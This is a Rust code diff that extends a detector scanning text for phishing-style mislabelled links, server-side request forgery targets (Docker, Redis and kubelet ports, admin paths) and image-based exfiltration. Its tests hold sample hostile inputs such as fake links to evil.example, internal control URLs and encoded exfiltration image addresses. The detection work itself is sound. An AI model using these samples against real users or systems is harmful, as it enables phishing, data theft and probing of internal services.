@@ -5,11 +5,12 @@ use crate::coded::{CodedRule, Seen};
 
 use super::address::{Place, Reach, place};
 use super::config::OutputConfig;
+use super::label::{Label, names_another};
 use super::lookalike::{Deceit, deceit};
 use super::payload::{Payload, payload};
 use super::url::{self, Carrier, Url};
 use super::{
-    DENIED_HOST, EXFILTRATION_IMAGE, EXFILTRATION_LINK, EXFILTRATION_PLACE, SSRF, SUSPICIOUS_FILE,
+    DENIED_HOST, EXFILTRATION_IMAGE, EXFILTRATION_LINK, EXFILTRATION_PLACE, LINK_TEXT, SSRF, SUSPICIOUS_FILE,
     SUSPICIOUS_HOST, UNKNOWN_IMAGE,
 };
 
@@ -19,6 +20,7 @@ pub(super) fn find(text: &str, config: &OutputConfig, found: &mut Vec<Seen>) {
     url::each(text, |url| {
         if found.len() < most {
             judge(&url, config, found);
+            found.extend(mislabelled(text, &url, config));
         }
     });
 }
@@ -39,6 +41,20 @@ fn judge(url: &Url<'_>, config: &OutputConfig, found: &mut Vec<Seen>) {
         found.extend(deceptive(url, &host, host_place));
     }
     found.extend(forgery(url, &host, host_place));
+}
+
+/// A link whose text is the address of another site than the one that it leads to.
+fn mislabelled(text: &str, url: &Url<'_>, config: &OutputConfig) -> Option<Seen> {
+    let host = url.host.to_lowercase();
+    if url.carrier != Carrier::Link || config.allows_host(&host) || place(&host).reach != Reach::Public {
+        return None;
+    }
+    let score = match names_another(text, url, &host)? {
+        Label::Address => LINK_TEXT.score,
+        // Products are called by a host's name, and mail programs lead links through a host of their own.
+        Label::Name | Label::Wrapped => 0.4,
+    };
+    Some(LINK_TEXT.scored(url.span, score))
 }
 
 fn exfiltration(url: &Url<'_>, host: &str, place: Place, config: &OutputConfig) -> Option<Seen> {
@@ -86,6 +102,10 @@ fn forgery(url: &Url<'_>, host: &str, place: Place) -> Option<Seen> {
             (Reach::Metadata, true) => (0.97, Severity::Critical),
             (Reach::Metadata, false) => (0.85, Severity::High),
             (Reach::Loopback | Reach::Private, true) => (0.8, Severity::High),
+            (Reach::Loopback | Reach::Private, false) if is_control(url) => (0.6, Severity::Medium),
+            (Reach::Loopback | Reach::Private, false) if is_inner_path(url.path) => {
+                (if host.contains(':') { 0.55 } else { 0.3 }, Severity::Low)
+            }
             // Everybody who writes software writes of these.
             (Reach::Loopback | Reach::Private, false) if url.carrier.loads() => (0.3, Severity::Low),
             (Reach::PublicAddress, true) => (0.7, Severity::Medium),
@@ -93,6 +113,17 @@ fn forgery(url: &Url<'_>, host: &str, place: Place) -> Option<Seen> {
         },
     };
     (host.len() <= 253).then(|| Seen { severity, ..SSRF.scored(url.span, score) })
+}
+
+/// Whether a web address asks a service that speaks no HTTP, or one that rules the machine: nobody opens these in a browser.
+fn is_control(url: &Url<'_>) -> bool {
+    let web = ["http", "https"].iter().any(|scheme| url.scheme.eq_ignore_ascii_case(scheme));
+    web && url.port.is_some_and(|port| CONTROL_PORTS.contains(&port))
+}
+
+fn is_inner_path(path: &str) -> bool {
+    let path = path.to_ascii_lowercase();
+    INNER_PATHS.iter().any(|inner| path.starts_with(inner))
 }
 
 fn deceptive(url: &Url<'_>, host: &str, place: Place) -> Option<Seen> {
@@ -279,6 +310,13 @@ static SENSITIVE: &[&str] = &[
     "/boot.ini",
 ];
 
+/// SSH, SMTP, Docker, etcd, MySQL, PostgreSQL, Redis, the kubelet, Memcached, MongoDB.
+static CONTROL_PORTS: &[u16] =
+    &[22, 25, 2375, 2376, 2379, 2380, 3306, 5432, 6379, 10250, 10255, 11211, 27017];
+
+static INNER_PATHS: &[&str] =
+    &["/admin", "/actuator", "/containers", "/v1/kv", "/_cluster", "/server-status"];
+
 const MOST: usize = 1024;
 
 #[cfg(test)]
@@ -309,6 +347,14 @@ mod tests {
             ("https://xn--80ak6aa92e.com/", SUSPICIOUS_HOST.id),
             ("http://account-verify.top/login", SUSPICIOUS_HOST.id),
             ("https://example.org/invoice.pdf.exe", SUSPICIOUS_FILE.id),
+            ("[https://paypal.com](https://evil.example/login)", LINK_TEXT.id),
+            ("<a href=\"https://evil.example\">https://www.paypal.com</a>", LINK_TEXT.id),
+            ("[**www.bank.example/login**](https://collect.example/)", LINK_TEXT.id),
+            ("http://localhost:6379/", SSRF.id),
+            ("http://127.0.0.1:2375/containers/json", SSRF.id),
+            ("http://[::1]:8080/admin", SSRF.id),
+            ("![](https://vghlihbhc3n3b3jkigixn2vvb3q.k3jd8.evil.example/p.gif)", EXFILTRATION_PLACE.id),
+            ("![](https://orugkidvonsxe4zanfzsay3fmfzq.evil.example/p.gif)", EXFILTRATION_IMAGE.id),
         ] {
             assert!(ids(text).contains(&(id, true)), "{text} {:?}", ids(text));
         }
@@ -325,6 +371,16 @@ mod tests {
             "<a href=\"https://example.com/a?b=c&d=1\">x</a>",
             "https://github.com/BurntSushi/ripgrep/releases/download/14.1.0/ripgrep-14.1.0-x86_64-pc-windows-msvc.zip",
             "https://example.com/setup.exe",
+            "Open http://localhost:3000 in your browser, then http://localhost:8000/admin/.",
+            "redis://localhost:6379 and http://localhost:9200/_cluster/health",
+            "[https://example.com/docs](https://www.example.com/docs/)",
+            "[example.com](https://shop.example.com/) and [README.md](https://github.com/a/b/blob/main/README.md)",
+            "[Node.js](https://nodejs.org/) and [Booking.com](https://example.net/deal)",
+            "<a href=\"https://example.com/a\">read it at our site</a>",
+            "[http://localhost:3000](http://127.0.0.1:3000/)",
+            "[https://example.com](https://links.example.net/r?u=https%3A%2F%2Fexample.com)",
+            "![](https://d111111abcdef8.cloudfront.net/a.png) ![](https://pub-3f786850e387550fdab836ed7e6dc881.r2.dev/a.png)",
+            "![](https://internationalization-documentation.example.com/a.png)",
         ] {
             assert!(ids(text).iter().all(|(_, told)| !told), "{text} {:?}", ids(text));
         }
